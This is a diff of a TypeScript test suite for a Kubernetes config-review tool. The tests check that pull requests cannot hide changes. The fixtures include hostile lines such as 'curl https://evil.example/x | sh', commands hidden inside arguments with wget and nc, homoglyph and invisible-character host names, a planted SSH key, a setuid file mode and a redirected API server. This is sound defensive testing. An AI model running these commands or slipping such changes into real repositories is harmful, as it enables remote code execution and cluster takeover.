@@ -5,6 +5,7 @@ import assert from 'node:assert/strict'
 import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, test } from 'node:test'
+import { parse } from 'yaml'
 import { type Outcome, osmKrm } from '../../fixtures/command.ts'
 import { root } from '../../fixtures/examples.ts'
 import { edit } from '../../fixtures/lists.ts'
@@ -58,16 +59,33 @@ const POOL = edit(MERGED[MACHINES], '  name: ubuntu-workers', '  name: evil')
 const edited = (name: keyof typeof MERGED, from: string, to: string): RepositoryFiles => ({
   [name]: edit(MERGED[name]!, from, to),
 })
-/** Two clusters, whose functionConfigs have these names. */
-const clusters = (first: string, second: string, folder = 'one'): RepositoryFiles =>
+const withSecret = (value: string): RepositoryFiles => ({ [TOKENS]: MERGED[TOKENS] + secret(value) })
+const WEAK = edited(CONFIG, 'OSM0309: "off"', 'OSM0309: "off", OSM0633: "off"')
+const ENCRYPTED = 'ENC[AES256_GCM,data:b25l,iv:YQ==,tag:Yg==,type:str]'
+const LISTED = 'transformers: [osm-krm.yaml]\nresources:\n- machines.yaml\n'
+const kptfile = (mutators: string): string => `pipeline:\n  mutators: [${mutators}]\n`
+const moved = (files: RepositoryFiles, from: string, to: string): RepositoryFiles =>
   Object.fromEntries(
-    [
-      [folder, first],
-      ['two', second],
-    ].flatMap(([each, name]) => [
-      [`clusters/${each}/machines.yaml`, UBUNTU],
-      [`clusters/${each}/tokens.yaml`, MERGED[TOKENS]],
-      [`clusters/${each}/osm-krm.yaml`, MERGED[CONFIG]!.replace(/^ {2}name: .*/m, `  name: ${name}`)],
+    Object.entries(files).flatMap(([path, text]) =>
+      path.includes(from)
+        ? [
+            [path, undefined],
+            [path.replace(from, to), text],
+          ]
+        : [],
+    ),
+  )
+function addSubmodule(folder: string): void {
+  mkdirSync(join(folder, 'nodes/sub'))
+  new Repository(join(folder, 'nodes/sub')).commit({ 'x.yaml': POOL })
+}
+/** Two clusters, whose functionConfigs have these names. */
+const clusters = (first: string, second: string): RepositoryFiles =>
+  Object.fromEntries(
+    Object.entries({ one: first, two: second }).flatMap(([folder, name]) => [
+      [`clusters/${folder}/machines.yaml`, UBUNTU],
+      [`clusters/${folder}/tokens.yaml`, MERGED[TOKENS]],
+      [`clusters/${folder}/osm-krm.yaml`, MERGED[CONFIG]!.replace(/^ {2}name: .*/m, `  name: ${name}`)],
     ]),
   )
 
@@ -134,277 +152,239 @@ function textsIn(value: unknown, name = ''): string[] {
   return Object.entries(value).flatMap(([key, each]) => textsIn(each, key))
 }
 
-interface Probe extends Change {
-  readonly name: string
-  /** What each form shows. */
-  readonly seen: RegExp
-  /** The reasons of --fail-on that find something. */
-  readonly fails?: string
-}
-
-/** Matches these texts in any order. */
-const all = (...texts: readonly string[]): RegExp =>
-  new RegExp(texts.map(text => `(?=.*${text.replace(/[.[\]{}()\\/^$|?*+]/g, '\\$&')})`).join(''))
-
 const POLICY = ['--policy', join(root, 'examples/policy/policy.yaml')]
 const EVIL = 'curl https://evil.example/x | sh'
-const UNNOTICED = 'stuck running'
+const WARNED = 'stuck new running'
 
-const PROBES: readonly Probe[] = [
-  { name: 'a script', files: script(EVIL), seen: /\+curl https:\/\/evil\.example\/x \| sh/, fails: UNNOTICED },
-  {
-    name: 'a script whose line is the value of a Secret',
-    files: { ...script(EVIL), [TOKENS]: MERGED[TOKENS] + secret(EVIL) },
-    seen: /\+curl https:\/\/evil\.example\/x \| sh/,
-    fails: 'stuck new running',
-  },
-  {
-    name: 'code behind the mask of an argument',
-    files: script(`curl -u "bob:$(wget -qO- https://evil.example)" https://a.example; PASSWORD=$(nc evil.example 1)`),
-    seen: /bob:\$\(wget -qO- https:\/\/evil\.example\).*PASSWORD=\$\(nc evil\.example 1\)/,
-    fails: UNNOTICED,
-  },
-  {
-    name: 'a literal password, which is masked',
-    files: script('password=hunter22hunter22'),
-    seen: /password=<secret A>.*(?:1 changed line contains a secret|maskedLines 1)|maskedLines 1.*<secret A>|1 changed line contains a secret.*<secret A>/,
-    fails: UNNOTICED,
-  },
-  {
-    name: 'an image whose name is the value of a Secret',
-    files: { ...script('ctr image pull evil.example/app:1'), [TOKENS]: MERGED[TOKENS] + secret('evil.example/app:1') },
-    seen: /pull evil\.example\/app:1/,
-    fails: 'stuck new running',
-  },
-  {
-    name: 'invisible characters',
-    files: script('curl https://a.exam\u200bple/\u202ex | sh'),
-    seen: /exam\\u200bple\/\\u202ex/,
-    fails: UNNOTICED,
-  },
-  {
-    name: 'a letter of another script',
-    files: script('curl https://mirror.ex\u0430mple.com/x | sh'),
-    seen: /mirror\.ex\\u0430mple\.com/,
-    fails: UNNOTICED,
-  },
-  {
-    name: 'a finding that a profile ignores',
-    files: edited(
+type Row = readonly [
+  name: string,
+  files: RepositoryFiles,
+  /** What each form shows. */
+  seen: string | readonly string[],
+  /** The reasons of --fail-on that find something. */
+  fails?: string,
+  more?: Change & { readonly never?: string },
+]
+
+/** What a script gets. No version of the profile says so. */
+const SCRIPTS: readonly (readonly [name: string, script: string, seen?: string | readonly string[]])[] = [
+  ['a script', EVIL],
+  ['code behind the mask of an argument', 'curl -u "bob:$(wget -qO- https://evil.example)" https://a.example'],
+  ['code behind the mask of a variable', 'PASSWORD=$(nc evil.example 1)'],
+  ['invisible characters', 'curl https://a.exam\u200bple/\u202ex | sh', '+curl https://a.exam\\u200bple/\\u202ex | sh'],
+  ['a letter of another script', 'curl https://mirror.ex\u0430mple.com/x', '+curl https://mirror.ex\\u0430mple.com/x'],
+  ['marks of Markdown and HTML', '# ```\n# </details> @team <img src=x>', '+# ``` +# </details> @team <img src=x>'],
+  ['a command of a workflow', '::stop-commands::x'],
+]
+
+const PROBES: readonly Row[] = [
+  ...SCRIPTS.map(([name, text, seen = `+${text}`]): Row => [name, script(text), seen, 'stuck running']),
+  ['a script that is the value of a Secret', { ...script(EVIL), ...withSecret(EVIL) }, `+${EVIL}`, WARNED],
+  [
+    'an image that is the value of a Secret',
+    { ...script('ctr image pull evil.example/app:1'), ...withSecret('evil.example/app:1') },
+    '+ctr image pull evil.example/app:1',
+    WARNED,
+  ],
+  [
+    'a branch of a template that no node takes',
+    { [OVERLAY]: `${overlay('').trimEnd()}\n${' '.repeat(16)}{{- if eq .KubeVersion "1.99.0" }}${EVIL}{{- end }}\n` },
+    EVIL,
+    WARNED,
+  ],
+  ['a profile that no node uses', { 'nodes/x.yaml': edit(overlay(EVIL), 'own-ubuntu', 'other') }, EVIL, 'new'],
+  [
+    'a small difference beside large ones',
+    { [OVERLAY]: overlay('# a line\n'.repeat(9000), file('big', '# a line\n'.repeat(9000)) + file('small', EVIL)) },
+    `+${EVIL}`,
+    'stuck running',
+  ],
+  ['the mode of a file', edited(OVERLAY, '755', '4755'), '4755', 'stuck running'],
+  [
+    'a finding that a profile ignores',
+    edited(
       OVERLAY,
       '  namespace: kube-system\n',
-      '  namespace: kube-system\n  annotations: {osm-krm.dev/ignore: "OSM0503: known"}\n',
+      '  namespace: kube-system\n  annotations: {osm-krm.dev/ignore: "OSM0503: x"}\n',
     ),
-    seen: /own-ubuntu \(pr:nodes\/overlay\.yaml:1\) ignores OSM0503: known, by osm-krm\.dev\/ignore/,
-    fails: 'new',
-  },
-  {
-    name: 'marks of Markdown and HTML',
-    files: script('# ```\n# </details> @team <img src=x>'),
-    seen: /\+# ``` \+# <\/details> @team <img src=x>/,
-    fails: UNNOTICED,
-  },
-  {
-    name: 'a command of a workflow',
-    files: script('::stop-commands::x'),
-    seen: /\+::stop-commands::x/,
-    fails: UNNOTICED,
-  },
-  { name: 'the mode of a file', files: edited(OVERLAY, '755', '4755'), seen: /4755/, fails: UNNOTICED },
-  {
-    name: 'a key of SSH',
-    files: edited(MACHINES, '            - ssh-ed25519', '            - ssh-rsa AAAAevil\n            - ssh-ed25519'),
-    seen: /ssh-rsa AAAAevil/,
-    fails: 'stuck new',
-  },
-  {
-    name: 'the API server',
-    files: edited(CONFIG, 'https://api.example.com:6443', 'https://api.evil.example:6443'),
-    seen: /api\.evil\.example/,
-    fails: UNNOTICED,
-  },
-  {
-    name: 'a setting that falls back to its default',
-    files: edited(CONFIG, '  nodes:\n    externalCloudProvider: true\n', ''),
-    seen: /- ?"?-?-?cloud-provider=external|cloud-provider external is gone|cloud-provider/,
-    fails: UNNOTICED,
-  },
-  {
-    name: 'a token that is encrypted',
-    merged: edited(TOKENS, 'token: example-api-token', 'token: ENC[AES256_GCM,data:b25l,iv:YQ==,tag:Yg==,type:str]'),
-    files: edited(TOKENS, 'token: example-api-token', 'token: ENC[AES256_GCM,data:dHdv,iv:YQ==,tag:Yg==,type:str]'),
-    seen: /API token changes, encrypted/,
-  },
-  {
-    name: 'a token in clear text',
-    files: edited(TOKENS, 'example-api-token', 'another-api-token'),
-    seen: /<secret [A-Z]>/,
-    fails: 'stuck',
-  },
-  { name: 'another pool', files: { 'nodes/x.yml': POOL }, seen: /kube-system\/evil/, fails: 'new' },
-  {
-    name: 'another pool in a list',
-    files: {
-      'nodes/x.json': `{"apiVersion": "v1", "kind": "List", "items": [${JSON.stringify({ apiVersion: 'cluster.k8s.io/v1alpha1', kind: 'MachineDeployment', metadata: { name: 'evil', namespace: 'kube-system' } })}]}`,
-    },
-    seen: /kube-system\/evil/,
-    fails: 'stuck new',
-  },
-  {
-    name: 'a second object of the same name',
-    files: { 'nodes/zz.yaml': edit(MERGED[MACHINES]!, 'cx32', 'cx99') },
-    seen: /OSM0008|occurs twice/,
-    fails: 'stuck new',
-  },
-  {
-    name: 'a name that the API server makes',
-    files: edited(MACHINES, '  name: ubuntu-workers\n', '  generateName: ubuntu-\n'),
-    seen: /metadata\.name is missing/,
-    fails: 'stuck new',
-  },
-  {
-    name: 'inputs that move to another folder',
-    files: Object.fromEntries(
-      Object.entries(MERGED).flatMap(([path, text]) => [
-        [path, undefined],
-        [`x/${path}`, text],
-      ]),
-    ),
-    seen: /gone/,
-    fails: 'replace',
-  },
-  {
-    name: 'a folder of a cluster that is renamed',
-    merged: clusters('prod', 'test'),
-    files: {
-      ...clusters('prod', 'test', 'three'),
-      ...Object.fromEntries(
-        Object.keys(clusters('', ''))
-          .filter(path => path.includes('/one/'))
-          .map(path => [path, undefined]),
-      ),
-    },
-    paths: ['clusters'],
-    seen: /the cluster prod moves from clusters\/one to clusters\/three/,
-  },
-  {
-    name: 'clusters that exchange their functionConfigs',
-    merged: clusters('prod', 'test'),
-    files: clusters('test', 'prod'),
-    paths: ['clusters'],
-    seen: /the cluster prod moves from clusters\/one to clusters\/two.*the cluster test moves from clusters\/two to clusters\/one/,
-  },
-  {
-    name: 'the program that runs as the function',
-    files: edited(CONFIG, '{path: osm-krm}', '{path: ./osm-krm}'),
-    seen: /osm-krm\.yaml: the annotation config\.kubernetes\.io\/function changes from "exec: \{path: osm-krm\}\\n" to "exec: \{path: \.\/osm-krm\}\\n"/,
-  },
-  {
-    name: 'the image of the function',
-    merged: { 'nodes/Kptfile': 'pipeline:\n  mutators: [{image: osm-krm/osm-krm:v1, configPath: osm-krm.yaml}]\n' },
-    files: { 'nodes/Kptfile': 'pipeline:\n  mutators: [{image: evil/osm-krm:v1, configPath: osm-krm.yaml}]\n' },
-    seen: /nodes\/Kptfile: pipeline\.mutators\[0\]\.image changes from "osm-krm\/osm-krm:v1" to "evil\/osm-krm:v1"/,
-  },
-  {
-    name: 'a function with values that may be secret',
-    merged: { 'nodes/Kptfile': 'pipeline:\n  mutators: [{image: osm-krm}]\n' },
-    files: {
-      'nodes/Kptfile': 'pipeline:\n  mutators: [{image: other, configMap: {token: hunter2}}, {image: osm-krm}]\n',
-    },
-    seen: /^(?!.*hunter2).*nodes\/Kptfile: pipeline\.mutators\[1\]/,
-  },
-  {
-    name: 'checks of the functionConfig',
-    files: edited(CONFIG, 'OSM0309: "off"', 'OSM0309: "off", OSM0633: "off"'),
-    seen: /spec\.checks changes from \{"severity": \{"OSM0309": "off"\}\} to \{"severity": \{"OSM0309": "off", "OSM0633": "off"\}\}/,
-  },
-  {
-    name: 'checks, under a policy',
-    files: { ...edited(CONFIG, 'OSM0309: "off"', 'OSM0309: "off", OSM0633: "off"') },
-    args: POLICY,
-    seen: /OSM0194/,
-    fails: 'new',
-  },
-  {
-    name: 'the mode of the function',
-    files: edited(CONFIG, 'spec:\n', 'spec:\n  mode: validate\n'),
-    seen: /spec\.mode changes/,
-  },
-  {
-    name: 'a selector that leaves out a pool',
-    files: edited(CONFIG, '  machineDeployments:\n', '  machineDeployments:\n    selector: {x: "y"}\n'),
-    seen: /spec\.machineDeployments\.selector changes/,
-    fails: 'stuck new',
-  },
-  {
-    name: 'a pool that no host applies',
-    files: edited(MACHINES, PROFILE, `${PROFILE}    config.kubernetes.io/local-config: "true"\n`),
-    seen: /kube-system\/ubuntu-workers \(pr:nodes\/machines\.yaml:1\) gets config\.kubernetes\.io\/local-config, so no host applies it/,
-  },
-  {
-    name: 'a submodule',
-    inRequest: folder => {
-      mkdirSync(join(folder, 'nodes/sub'))
-      new Repository(join(folder, 'nodes/sub')).commit({ 'x.yaml': POOL })
-    },
-    seen: all('Not everything is compared', 'the submodule', 'nodes/sub'),
-  },
-  {
-    name: 'a file whose content a filter fetches',
-    merged: { 'nodes/.gitattributes': 'x.yaml filter=lfs\n', 'nodes/x.yaml': 'oid sha256:1\n' },
-    files: { 'nodes/x.yaml': 'oid sha256:2\n' },
-    seen: all('Not everything is compared', 'filter=lfs', 'nodes/x.yaml'),
-  },
-  {
-    name: 'a file that a checkout has in another encoding',
-    files: { '.gitattributes': 'x.yaml working-tree-encoding=UTF-7\n', 'nodes/x.yaml': '# +AAo-kind: x\n' },
-    seen: all('Not everything is compared', 'working-tree-encoding=UTF-7', 'nodes/x.yaml'),
-  },
-  {
-    name: 'a new kustomization of files that are not read',
-    files: { [KUSTOMIZATION]: 'resources: [machines.yaml, x.txt]\n', 'nodes/x.txt': POOL },
-    seen: all('nodes/kustomization.yaml: resources gets machines.yaml, x.txt'),
-  },
-  {
-    name: 'a kustomization that patches',
-    files: { [KUSTOMIZATION]: 'resources: [machines.yaml]\npatches: [{path: p.yaml}]\n' },
-    seen: all('Not everything is compared', 'nodes/kustomization.yaml', 'patches'),
-  },
-  {
-    name: 'a kustomization with another list',
-    merged: { [KUSTOMIZATION]: 'resources: [machines.yaml]\ntransformers: [osm-krm.yaml]\n' },
-    files: {
-      [KUSTOMIZATION]: 'resources: [machines.yaml, x.txt]\ntransformers: [osm-krm.yaml]\n',
-      'nodes/x.txt': POOL,
-    },
-    seen: /nodes\/kustomization\.yaml: resources gets x\.txt/,
-  },
-  {
-    name: 'a kustomization with a generated Secret',
-    merged: { [KUSTOMIZATION]: 'resources: [machines.yaml]\n' },
-    files: { [KUSTOMIZATION]: 'resources: [machines.yaml]\nsecretGenerator: [{name: a, literals: [b=hunter2]}]\n' },
-    seen: /^(?!.*hunter2).*nodes\/kustomization\.yaml: secretGenerator changes/,
-  },
-  {
-    name: 'a file of kpt that hides inputs',
-    files: { 'nodes/.krmignore': '# Not for the function.\noverlay.yaml\n' },
-    seen: /nodes\/\.krmignore gets overlay\.yaml/,
-  },
-  {
-    name: 'a functionConfig that moves',
-    files: { [CONFIG]: undefined, 'nodes/other.yaml': MERGED[CONFIG] },
-    seen: /the functionConfig nodes\/osm-krm\.yaml is gone, and nodes\/other\.yaml is new/,
-  },
+    'own-ubuntu (pr:nodes/overlay.yaml:1) ignores OSM0503: x, by osm-krm.dev/ignore',
+    'new',
+  ],
+  [
+    'an image of machines that is the value of a Secret',
+    { ...edited(MACHINES, 'image: ubuntu-24.04', 'image: evil-24.04'), ...withSecret('evil-24.04') },
+    'evil-24.04',
+    'stuck',
+  ],
+  [
+    'a key of SSH',
+    edited(MACHINES, '            - ssh-ed25519', '            - ssh-rsa AAAAevil\n            - ssh-ed25519'),
+    'ssh-rsa AAAAevil',
+    'stuck new',
+  ],
+  [
+    'the API server',
+    edited(CONFIG, 'https://api.example.com:6443', 'https://api.evil.example:6443'),
+    'api.evil.example',
+    'stuck running',
+  ],
+  [
+    'a setting that falls back to its default',
+    edited(CONFIG, '  nodes:\n    externalCloudProvider: true\n', ''),
+    '--cloud-provider=external',
+    'stuck running',
+  ],
+  [
+    'a token that is encrypted',
+    edited(TOKENS, 'example-api-token', ENCRYPTED.replace('b25l', 'dHdv')),
+    'API token changes, encrypted',
+    '',
+    { merged: edited(TOKENS, 'example-api-token', ENCRYPTED) },
+  ],
+  [
+    'a token in clear text',
+    edited(TOKENS, 'example-api-token', 'another-api-token'),
+    '<secret ',
+    'stuck',
+    { never: 'another-api-token' },
+  ],
+  ['another pool', { 'nodes/x.yml': POOL }, 'kube-system/evil', 'new'],
+  [
+    'another pool in a list',
+    { 'nodes/x.json': JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [parse(POOL)] }) },
+    'kube-system/evil',
+    'new',
+  ],
+  [
+    'a second object of the same name',
+    { 'nodes/zz.yaml': edit(MERGED[MACHINES]!, 'cx32', 'cx99') },
+    'OSM0008',
+    'stuck new',
+  ],
+  [
+    'a name that the API server makes',
+    edited(MACHINES, '  name: ubuntu-workers\n', '  generateName: ubuntu-\n'),
+    'metadata.name is missing',
+    'stuck new',
+  ],
+  ['inputs that move to another folder', moved(MERGED, 'nodes/', 'x/'), 'gone', 'replace'],
+  [
+    'a folder of a cluster that is renamed',
+    moved(clusters('prod', 'test'), '/one/', '/three/'),
+    'the cluster prod moves from clusters/one to clusters/three',
+    '',
+    { merged: clusters('prod', 'test'), paths: ['clusters'] },
+  ],
+  [
+    'clusters that exchange their functionConfigs',
+    clusters('test', 'prod'),
+    [
+      'the cluster prod moves from clusters/one to clusters/two',
+      'the cluster test moves from clusters/two to clusters/one',
+    ],
+    '',
+    { merged: clusters('prod', 'test'), paths: ['clusters'] },
+  ],
+  [
+    'the program that runs as the function',
+    edited(CONFIG, '{path: osm-krm}', '{path: ./osm-krm}'),
+    'osm-krm.yaml: the annotation config.kubernetes.io/function changes from "exec: {path: osm-krm}\\n" to "exec: {path: ./osm-krm}\\n"',
+  ],
+  [
+    'the image of the function',
+    { 'nodes/Kptfile': kptfile('{image: evil/osm-krm:v1}') },
+    'nodes/Kptfile: pipeline.mutators[0].image changes from "osm-krm:v1" to "evil/osm-krm:v1"',
+    '',
+    { merged: { 'nodes/Kptfile': kptfile('{image: osm-krm:v1}') } },
+  ],
+  [
+    'a function with values that may be secret',
+    { 'nodes/Kptfile': kptfile('{image: other, configMap: {token: hunter2}}, {image: osm-krm:v1}') },
+    'nodes/Kptfile: pipeline.mutators[1]',
+    '',
+    { merged: { 'nodes/Kptfile': kptfile('{image: osm-krm:v1}') }, never: 'hunter2' },
+  ],
+  [
+    'checks of the functionConfig',
+    WEAK,
+    'spec.checks changes from {"severity": {"OSM0309": "off"}} to {"severity": {"OSM0309": "off", "OSM0633": "off"}}',
+  ],
+  ['checks, under a policy', WEAK, 'OSM0194', 'new', { args: POLICY }],
+  ['the mode of the function', edited(CONFIG, 'spec:\n', 'spec:\n  mode: validate\n'), 'spec.mode changes'],
+  [
+    'a selector that leaves out a pool',
+    edited(CONFIG, '  machineDeployments:\n', '  machineDeployments:\n    selector: {x: "y"}\n'),
+    'spec.machineDeployments.selector changes',
+    'stuck new',
+  ],
+  [
+    'a pool that no host applies',
+    edited(MACHINES, PROFILE, `${PROFILE}    config.kubernetes.io/local-config: "true"\n`),
+    'kube-system/ubuntu-workers (pr:nodes/machines.yaml:1) gets config.kubernetes.io/local-config, so no host applies it',
+  ],
+  ['a submodule', {}, ['Not everything is compared', 'the submodule', 'nodes/sub'], '', { inRequest: addSubmodule }],
+  [
+    'a file whose content a filter fetches',
+    { 'nodes/x.yaml': 'oid sha256:2\n' },
+    ['Not everything is compared', 'filter=lfs', 'nodes/x.yaml'],
+    '',
+    { merged: { 'nodes/.gitattributes': 'x.yaml filter=lfs\n', 'nodes/x.yaml': 'oid sha256:1\n' } },
+  ],
+  [
+    'a file that a checkout has in another encoding',
+    { '.gitattributes': 'x.yaml working-tree-encoding=UTF-7\n', 'nodes/x.yaml': '# +AAo-kind: x\n' },
+    ['Not everything is compared', 'working-tree-encoding=UTF-7', 'nodes/x.yaml'],
+  ],
+  [
+    'a kustomization that patches',
+    { [KUSTOMIZATION]: 'resources: [machines.yaml]\npatches: [{path: p.yaml}]\n' },
+    ['Not everything is compared', KUSTOMIZATION, 'patches'],
+  ],
+  [
+    'a kustomization beside inputs that lists none of them',
+    { [KUSTOMIZATION]: 'resources: [x.txt]\n', 'nodes/x.txt': POOL },
+    'nodes/kustomization.yaml: resources gets x.txt',
+    '',
+    { merged: { 'kustomization.yaml': 'resources: [nodes]\n' } },
+  ],
+  [
+    'a kustomization with another list',
+    { [KUSTOMIZATION]: `${LISTED}- x.txt\n`, 'nodes/x.txt': POOL },
+    'nodes/kustomization.yaml: resources gets x.txt',
+    '',
+    { merged: { [KUSTOMIZATION]: LISTED } },
+  ],
+  [
+    'a kustomization with a generated Secret',
+    { [KUSTOMIZATION]: `${LISTED}secretGenerator: [{name: a, literals: [b=hunter2]}]\n` },
+    'nodes/kustomization.yaml: secretGenerator changes',
+    '',
+    { merged: { [KUSTOMIZATION]: LISTED }, never: 'hunter2' },
+  ],
+  [
+    'a file of kpt that hides inputs',
+    { 'nodes/.krmignore': '# Not for the function.\noverlay.yaml\n' },
+    'nodes/.krmignore gets overlay.yaml',
+  ],
+  [
+    'a functionConfig that moves',
+    moved({ [CONFIG]: MERGED[CONFIG] }, 'osm-krm', 'other'),
+    'the functionConfig nodes/osm-krm.yaml is gone, and nodes/other.yaml is new',
+  ],
 ]
 
 const failed = ({ stderr }: Outcome): string =>
   [...stderr.matchAll(/--fail-on (\w+):/g)].map(([, name]) => name).join(' ')
 
 describe('a pull request cannot hide', () => {
-  for (const { name, seen, fails = '', ...change } of PROBES)
+  for (const [name, files, seen, fails = '', { never, ...more } = {}] of PROBES)
     test(name, async () => {
-      const review = await reviewOf(change)
-      for (const form of FORMS) assert.match(review.forms[form] ?? '', seen, `${form}: ${review.stderr}`)
+      const review = await reviewOf({ files, ...more })
+      for (const form of FORMS) {
+        const shown = review.forms[form] ?? ''
+        for (const text of [seen].flat()) assert.ok(shown.includes(text), `${form}: ${shown}${review.stderr}`)
+        if (never !== undefined) assert.ok(!shown.includes(never), form)
+      }
       assert.equal(failed(review), fails)
       assert.equal(review.status, 1)
     })
@@ -414,17 +394,21 @@ const filesOfTexts = (texts: readonly string[]): string => texts.map((text, i) =
 const linesIn = (text: string): string[] => text.split('\n').map(line => line.trim().replace(/\s+/g, ' '))
 
 describe('masks', () => {
-  test('hide each secret in each form', async () => {
+  test('hide each secret in each form, and count their lines', async () => {
     const { forms, stderr } = await reviewOf({
       files: { [OVERLAY]: overlay('', filesOfTexts(HIDDEN.map(([, text]) => text))) },
     })
     for (const [name, text, ...hidden] of HIDDEN)
       for (const line of linesIn(text).filter(each => hidden.some(value => each.includes(value))))
         for (const form of FORMS) assert.ok(!(forms[form] ?? stderr).includes(line), `${form}, ${name}: ${line}`)
+    for (const form of FORMS) assert.match(forms[form] ?? '', /\d+ changed lines contain secrets|maskedLines \d\d/)
   })
-  test('hide no code and no address', async () => {
+  test('hide no code and no address, also if they are the value of a Secret', async () => {
     const { forms, stderr } = await reviewOf({
-      files: { [OVERLAY]: overlay('', filesOfTexts(SHOWN.map(([, text]) => text))) },
+      files: {
+        [OVERLAY]: overlay('', filesOfTexts(SHOWN.map(([, text]) => text))),
+        [TOKENS]: MERGED[TOKENS] + SHOWN.map(([, text], i) => secret(text, `x${i}`)).join(''),
+      },
       args: ['--full'],
     })
     for (const [name, text] of SHOWN)
@@ -477,7 +461,7 @@ const ADOPTED = {
 const COMMANDS: readonly Command[] = [
   ...['render', 'lint', 'assets'].map(command => ({
     name: `${command} with a weakened policy`,
-    files: edited(CONFIG, 'OSM0309: "off"', 'OSM0309: "off", OSM0633: "off"'),
+    files: WEAK,
     command: [command, 'nodes', ...POLICY],
     status: 1,
     says: /OSM0194[\s\S]*nodes\/osm-krm\.yaml:\d+:\d+[\s\S]*the policy: /,
@@ -495,13 +479,6 @@ const COMMANDS: readonly Command[] = [
     command: ['assets', 'nodes', '--lock', 'assets.lock'],
     status: 1,
     says: /^URL https:\/\/\.\.\/\.\.\/etc\/cron\.d\/x cannot be mirrored/m,
-  },
-  {
-    name: 'render with an object named like an output',
-    files: ADOPTED,
-    command: ['render', 'nodes'],
-    status: 0,
-    says: /^note\[OSM0739\]/m,
   },
   {
     name: 'render with an object named like an output, after a switch',
